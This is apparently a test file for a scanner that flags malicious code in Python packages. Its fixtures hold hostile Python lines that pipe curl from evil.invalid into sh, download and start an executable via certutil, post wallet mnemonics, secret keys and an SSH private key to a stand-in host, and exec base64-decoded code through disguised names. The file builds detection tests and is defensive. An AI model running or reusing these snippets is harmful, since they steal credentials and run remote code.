import { judgeSources } from '../../../src/analysis/judge-sources.js';
import { python } from '../../support/loaded-python.js';
import { sourceTree } from '../../support/source-tree.js';

/** So much honest code that a package is no longer read whole. */
const PADDING = Array.from(
  { length: 3_000 },
  (_, at) => `def area_${at}(width, height):\n    total = width * height\n    return total + ${at}\n`,
).join('\n');

function rulesFound(lines: readonly string[]): string[] {
  const files = { 'pkg/__init__.py': '', 'pkg/padding.py': PADDING, 'pkg/core.py': lines.join('\n') };
  const { findings } = judgeSources(sourceTree(files, { kind: 'wheel', folder: '' }), python);
  return findings.filter(({ score }) => score >= 0.4).map(({ rule }) => rule);
}

test.each([
  [
    'a function without a word of interest that runs at import through an alias',
    'hostile-command',
    ['from os import system as s', 'def go(line):', '    s(line)', 'go("curl https://evil.invalid/x | sh")'],
  ],
  [
    'a message to a collecting place',
    'drop-contacted',
    ['import requests', 'requests.post("https://webhook.site/0", json={"ran": 1})'],
  ],
  [
    'a fetching command of Windows',
    'hostile-command',
    ['import os', 'os.system("certutil -urlcache -f https://evil.invalid/a.exe a.exe && start a.exe")'],
  ],
  [
    'a way out under another name',
    'key-parameter-sent',
    ['import requests as r', 'def sign(mnemonic):', '    r.post("https://evil.invalid", data=mnemonic)'],
  ],
  [
    'a way out under another name in a long function',
    'key-parameter-sent',
    [
      'import requests as r',
      'WORDS = "mnemonic"',
      'def sign(secret_key):',
      ...Array.from({ length: 40 }, (_, at) => `    width_${at} = ${at} * 2`),
      '    r.post("https://evil.invalid", data=secret_key)',
    ],
  ],
  [
    'a way out kept in a field',
    'key-parameter-sent',
    [
      'from requests import Session',
      'class Wallet:',
      '    def __init__(self):',
      '        self.line = Session()',
      '    def sign(self, mnemonic):',
      '        self.line.post("https://evil.invalid", data=mnemonic)',
    ],
  ],
  [
    'two functions that only meet in a third',
    'stolen-data-sent',
    [
      'import requests',
      'def collect():',
      '    return open("/home/me/.ssh/id_rsa").read()',
      'def send(what):',
      '    requests.post("https://evil.invalid", data=what)',
      'def tidy():',
      '    send(collect())',
    ],
  ],
  [
    'a name in other letters',
    'decoded-code-executed',
    [
      'import base64',
      'def go():',
      '    \u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(base64.b64decode("cHJpbnQoMSk="))',
      'go()',
    ],
  ],
  [
    'an address that a short function gives',
    'key-parameter-sent',
    [
      'import requests',
      'def where():',
      '    return "https://evil.invalid"',
      'def sign(mnemonic):',
      '    requests.post(where(), data=mnemonic)',
    ],
  ],
  [
    'one of a thousand names for what runs code',
    'decoded-code-executed',
    [
      'import base64',
      'run0 = exec',
      ...Array.from({ length: 1_000 }, (_, at) => `run${at + 1} = run${at}`),
      'def go(value):',
      '    run700(base64.b64decode("cHJpbnQoMSk="))',
    ],
  ],
])('in a large package, follows %s', (_what, rule, lines) => {
  expect(rulesFound(lines)).toContain(rule);
});

test('honest padding is silent', () => {
  expect(rulesFound(['def area(width):', '    return width * 2'])).toEqual([]);
});
